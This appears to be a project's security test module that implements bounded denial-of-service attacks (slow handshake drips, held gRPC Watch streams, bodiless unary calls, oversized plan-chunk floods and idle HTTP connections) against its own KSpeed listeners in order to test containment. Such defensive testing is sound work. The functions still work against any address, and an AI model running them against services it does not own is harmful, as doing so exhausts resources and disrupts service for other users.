"""Exhaustion attacks on KSpeed's listeners, as functions a test or a benchmark can run.

Each attack runs against one address for a bounded time (or until ``stop`` is set), with a
bounded number of connections, and returns a report of what the target did to it: a test asserts
containment from the report (connections closed by their deadline, streams refused or ended), a
benchmark measures a legitimate job's throughput while the attack runs. Run one pinned to its own
core, so that defence is measured and not CPU contention, with
``taskset -c N python -m tests.security.attacks NAME ADDRESS [--option value ...]`` (the
function's keyword arguments; prints the report as JSON).
"""

from __future__ import annotations

import argparse
import asyncio
import dataclasses
import json
import selectors
import socket
import sys
import threading
import time
from collections.abc import Callable, Iterator, Sequence
from typing import Any

import grpc
from grpc_health.v1 import health_pb2, health_pb2_grpc

from kspeed.proto import kspeed_pb2, kspeed_pb2_grpc

__all__ = [
    "FloodReport",
    "HeldReport",
    "drip_handshakes",
    "flood_stream_plan",
    "hold_bodiless_calls",
    "hold_watch_streams",
    "idle_http_connections",
    "split_address",
]


@dataclasses.dataclass
class HeldReport:
    """What a listener did to the connections an attack held open.

    Attributes:
        opened: connections the attack opened (a closed one is opened again while the attack runs).
        closed_by_target: connections the target closed (or reset).
        longest_held: the longest any connection stayed open before the target closed it, or, for
            those still open when the attack ended, their age then (seconds).
        still_open: connections open when the attack ended.
        refused: connections that could not even be opened.
    """

    opened: int = 0
    closed_by_target: int = 0
    longest_held: float = 0.0
    still_open: int = 0
    refused: int = 0


def split_address(address: str | tuple[str, int]) -> tuple[str, int]:
    """``host:port`` (or a ``(host, port)`` pair) as a pair."""
    if isinstance(address, tuple):
        return address
    host, _, port = address.rpartition(":")
    return host.strip("[]"), int(port)


def _dial(address: str | tuple[str, int], source: str = "", timeout: float = 2.0) -> socket.socket:
    """A connection to ``host:port``, or to an abstract Unix socket given as ``"\\0name"`` (or
    ``unix-abstract:name``, as a command line can spell it)."""
    if isinstance(address, str) and address.startswith("unix-abstract:"):
        address = "\0" + address.partition(":")[2]
    if isinstance(address, str) and address.startswith("\0"):
        sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        target: str | tuple[str, int] = address
    else:
        host, port = split_address(address)
        sock = socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET, socket.SOCK_STREAM)
        target = (host, port)
    try:
        if source:
            sock.bind((source, 0))
        sock.settimeout(timeout)
        sock.connect(target)
    except OSError:
        sock.close()
        raise
    return sock


def drip_handshakes(
    address: str | tuple[str, int],
    n: int,
    *,
    payload: bytes,
    interval: float = 1.5,
    duration: float = 30.0,
    reopen_after: float = 0.5,
    sources: Sequence[str] = ("",),
    stop: threading.Event | None = None,
    started: threading.Event | None = None,
) -> HeldReport:
    """Hold ``n`` handshakes open by sending ``payload`` one byte every ``interval`` seconds.

    A listener whose timeout applies to each read, not to the whole handshake, keeps such a
    connection for as long as the payload lasts: ``n`` of them can hold every handshake slot. A
    connection the target closes is opened again ``reopen_after`` seconds later, so the slots stay
    taken unless the target makes room for others. (Opened again at once, the attack becomes a
    flood of connections, which no cap per address can tell from its address's other clients:
    that is a matter of rate limits and CPU, not of this attack.)

    Args:
        address: the listener (``host:port``, or ``"\\0name"`` for an abstract Unix socket).
        n: connections held at once (bounded: tens, not thousands).
        payload: the bytes dripped, e.g. a plausible hello (the whole handshake never completes).
        interval: seconds between two bytes on one connection.
        duration: seconds the attack lasts at most.
        reopen_after: seconds before a connection the target closed is opened again.
        sources: local addresses the connections are bound to, round robin ("" for any): several
            loopback addresses (127.0.0.2, ...) look like several peers.
        stop: ends the attack early when set.
        started: set once the ``n`` connections are open and have sent their first byte.
    """
    report = HeldReport()
    sel = selectors.DefaultSelector()
    born: dict[socket.socket, tuple[float, int]] = {}  # socket -> (opened at, bytes sent)
    end = time.monotonic() + duration

    def open_one(k: int) -> None:
        try:
            sock = _dial(address, sources[k % len(sources)])
        except OSError:
            report.refused += 1
            return
        sock.setblocking(False)
        report.opened += 1
        born[sock] = (time.monotonic(), 0)
        sel.register(sock, selectors.EVENT_READ, k)

    def closed(sock: socket.socket) -> None:
        opened, _ = born.pop(sock)
        report.closed_by_target += 1
        report.longest_held = max(report.longest_held, time.monotonic() - opened)
        sel.unregister(sock)
        sock.close()

    for k in range(n):
        open_one(k)
    next_drip = time.monotonic()
    reopen: list[tuple[float, int]] = []  # (when, which) connections to open again
    try:
        while time.monotonic() < end and not (stop is not None and stop.is_set()):
            wake = min([next_drip, end, *(when for when, _ in reopen)])
            for key, _ in sel.select(max(0.0, wake - time.monotonic())):
                sock = key.fileobj
                assert isinstance(sock, socket.socket)
                try:
                    data = sock.recv(4096)
                except BlockingIOError:
                    continue
                except OSError:
                    data = b""
                if not data:  # (what the target says before closing is of no interest)
                    closed(sock)
                    reopen.append((time.monotonic() + reopen_after, key.data))
            now = time.monotonic()
            for when, k in [r for r in reopen if r[0] <= now]:
                reopen.remove((when, k))
                open_one(k)
            if time.monotonic() >= next_drip:
                next_drip = time.monotonic() + interval
                for sock, (opened, sent) in list(born.items()):
                    if sent < len(payload):
                        try:
                            sock.send(payload[sent : sent + 1])
                            born[sock] = (opened, sent + 1)
                        except OSError:
                            pass  # closed under us: the read side sees it
                if started is not None:
                    started.set()
    finally:
        now = time.monotonic()
        report.still_open = len(born)
        for sock, (opened, _) in born.items():
            report.longest_held = max(report.longest_held, now - opened)
            sock.close()
        sel.close()
    return report


def hold_watch_streams(
    address: str,
    n: int,
    *,
    duration: float = 30.0,
    renew: bool = True,
    stop: threading.Event | None = None,
    started: threading.Event | None = None,
) -> HeldReport:
    """Hold ``n`` ``grpc.health.v1`` ``Watch`` streams open on one connection (no token needed).

    A ``Watch`` sends only when the status changes, so nothing ever happens on it: a daemon that
    counted it among its streams and never ended it gave it away for good. With ``renew`` a stream
    the target ends (or refuses) is opened again (after 0.2 s), so the target's limits stay tested.

    Args:
        address: the daemon's gRPC address (``host:port``).
        n: streams held at once.
        duration: seconds the attack lasts at most.
        renew: open a stream again when the target ends or refuses it.
        stop: ends the attack early when set.
        started: set once each of the first ``n`` streams was answered (a status, or a refusal).

    The report's ``refused`` counts streams refused at the daemon's caps, ``closed_by_target`` those
    it ended after their first status.
    """
    report = HeldReport()
    end = time.monotonic() + duration

    async def attack() -> None:
        channel = grpc.aio.insecure_channel(address)
        stub = health_pb2_grpc.HealthStub(channel)
        answered = 0
        opened_at: dict[int, float] = {}  # the streams open now: when they opened

        def answered_once() -> None:
            nonlocal answered
            answered += 1
            if answered == n and started is not None:
                started.set()

        async def hold(k: int) -> None:
            first = True
            while time.monotonic() < end:
                call = stub.Watch(health_pb2.HealthCheckRequest())
                opened = None
                try:
                    await call.read()  # the current status: the stream is open
                    opened = opened_at[k] = time.monotonic()
                    report.opened += 1
                    if first:
                        answered_once()
                    while await call.read() is not grpc.aio.EOF:
                        pass
                except grpc.aio.AioRpcError as exc:
                    if opened is None:
                        report.refused += exc.code() == grpc.StatusCode.RESOURCE_EXHAUSTED
                        if first:
                            answered_once()
                if opened is not None:  # ended (status OK) or cancelled by the target
                    del opened_at[k]
                    report.closed_by_target += 1
                    report.longest_held = max(report.longest_held, time.monotonic() - opened)
                first = False
                if not renew:
                    return
                await asyncio.sleep(0.2)

        tasks = [asyncio.ensure_future(hold(k)) for k in range(n)]
        while time.monotonic() < end and not (stop is not None and stop.is_set()):
            await asyncio.sleep(0.05)
        now = time.monotonic()
        report.still_open = len(opened_at)
        report.longest_held = max([report.longest_held, *(now - t for t in opened_at.values())])
        for task in tasks:
            task.cancel()
        await asyncio.gather(*tasks, return_exceptions=True)
        await channel.close()

    asyncio.run(attack())
    return report


def hold_bodiless_calls(
    address: str,
    n: int,
    *,
    method: str = "/grpc.health.v1.Health/Check",
    duration: float = 30.0,
    reopen_after: float = 0.5,
    stop: threading.Event | None = None,
    started: threading.Event | None = None,
) -> HeldReport:
    """Hold ``n`` calls of a unary ``method`` open without ever sending their request message.

    A synchronous gRPC server waits for a unary call's request on one of its pool's threads: as
    many such calls as it has threads starved every other call, health checks included (no token
    is needed: a refused token is told only once the request is read). A call the target ends is
    made again ``reopen_after`` seconds later.

    The report's ``closed_by_target`` counts the calls the target ended (its deadline, or to make
    room), ``still_open`` those open when the attack ended.
    """
    report = HeldReport()
    end = time.monotonic() + duration
    never = threading.Event()

    def silent() -> Iterator[bytes]:
        never.wait()
        yield from ()

    with grpc.insecure_channel(address) as channel:
        call = channel.stream_unary(method, request_serializer=bytes, response_deserializer=bytes)
        held: dict[int, tuple[Any, float]] = {}
        reopen: dict[int, float] = {}

        def place(k: int) -> None:
            held[k] = (call.future(silent(), timeout=duration + 10), time.monotonic())
            report.opened += 1

        for k in range(n):
            place(k)
        if started is not None:
            started.set()
        try:
            while time.monotonic() < end and not (stop is not None and stop.is_set()):
                time.sleep(0.05)
                now = time.monotonic()
                for k, (future, since) in list(held.items()):
                    if future.done():
                        del held[k]
                        report.closed_by_target += 1
                        report.longest_held = max(report.longest_held, now - since)
                        reopen[k] = now + reopen_after
                for k, when in list(reopen.items()):
                    if when <= now:
                        del reopen[k]
                        place(k)
        finally:
            now = time.monotonic()
            report.still_open = len(held)
            for future, since in held.values():
                report.longest_held = max(report.longest_held, now - since)
                future.cancel()
            never.set()
    return report


@dataclasses.dataclass
class FloodReport:
    """What a daemon answered a stream of oversized or unwanted chunks.

    Attributes:
        code: the call's status name (``OK`` when it was taken).
        details: the status details.
        sent: chunks the attacker got out before the call ended.
    """

    code: str
    details: str
    sent: int


def flood_stream_plan(
    address: str,
    *,
    feed_id: str = "no-such-feed",
    chunks: int = 20,
    chunk_bytes: int = 48 << 20,
    count: int = 1 << 28,
    token: str = "",
) -> FloodReport:
    """Stream ``chunks`` well-formed plan chunks of about ``chunk_bytes`` each to a server's ``StreamPlan``.

    A server that kept every chunk before it looked at the first one's feed (or at the plan's
    declared ``count``) grew by the whole stream before it refused it: 20 chunks of 48 MiB took one
    from 88 MB to 1.6 GB. Needs the cluster token where auth is on (a token holder's attack).
    """
    samples = chunk_bytes // 24  # well-formed chunks: int64 ids and offsets, uint32 lengths and positions
    wide, narrow = bytes(8 * samples), bytes(4 * samples)
    sent = 0

    def stream() -> Iterator[kspeed_pb2.PlanChunk]:
        nonlocal sent
        for k in range(chunks):
            head = {"feed_id": feed_id, "epoch": 0, "batch_size": 1, "count": count} if k == 0 else {}
            yield kspeed_pb2.PlanChunk(ids=wide, lengths=narrow, positions=narrow, offsets=wide, **head)
            sent += 1

    metadata = (("authorization", f"Bearer {token}"),) if token else ()
    options = [("grpc.max_send_message_length", chunk_bytes + (1 << 20))]
    with grpc.insecure_channel(address, options=options) as channel:
        stub = kspeed_pb2_grpc.ServerStub(channel)
        try:
            stub.StreamPlan(stream(), timeout=120, metadata=metadata)
            return FloodReport("OK", "", sent)
        except grpc.RpcError as exc:
            return FloodReport(exc.code().name, exc.details() or "", sent)


def idle_http_connections(
    address: str | tuple[str, int],
    n: int,
    *,
    duration: float = 30.0,
    sources: Sequence[str] = ("",),
    stop: threading.Event | None = None,
    started: threading.Event | None = None,
) -> HeldReport:
    """Hold ``n`` HTTP connections that never finish their request (a ``G``, then nothing).

    An endpoint with a thread per connection and no deadline kept every one of them: 951 gave a
    manager 961 threads and 972 open files. Connections the target closes are opened again half
    a second later.
    """
    return drip_handshakes(
        address,
        n,
        payload=b"GET /metrics HTTP/1.1\r\n",
        interval=max(duration, 1.0),  # its first byte, then silence
        duration=duration,
        sources=sources,
        stop=stop,
        started=started,
    )


_ATTACKS: dict[str, Callable[..., Any]] = {
    "drip-handshakes": drip_handshakes,
    "hold-watch-streams": hold_watch_streams,
    "hold-bodiless-calls": hold_bodiless_calls,
    "flood-stream-plan": flood_stream_plan,
    "idle-http-connections": idle_http_connections,
}


def main(argv: list[str] | None = None) -> int:
    """``python -m tests.security.attacks NAME ADDRESS [--key value ...]``: run one attack, print its report.

    Each ``--key value`` is the attack function's keyword argument: numbers as numbers, ``--payload``
    as text or ``--payload-hex`` as hex (a tcp hello:
    ``wire.HELLO.pack(wire.MAGIC, wire.BULK, consumer, 0).hex()``), ``--sources`` comma-separated.
    """
    parser = argparse.ArgumentParser(description=main.__doc__)
    parser.add_argument("attack", choices=sorted(_ATTACKS))
    parser.add_argument("address")
    args, rest = parser.parse_known_args(argv)
    kwargs: dict[str, Any] = {}
    for key, value in zip(rest[::2], rest[1::2]):
        name = key.lstrip("-").replace("-", "_")
        if name == "sources":
            kwargs[name] = value.split(",")
        elif name == "payload":
            kwargs[name] = value.encode()
        elif name == "payload_hex":
            kwargs["payload"] = bytes.fromhex(value)
        else:
            kwargs[name] = json.loads(value) if value[:1].isdigit() or value[:1] == "-" else value
    report = _ATTACKS[args.attack](args.address, **kwargs)
    json.dump(dataclasses.asdict(report), sys.stdout)
    print()
    return 0


if __name__ == "__main__":
    sys.exit(main())
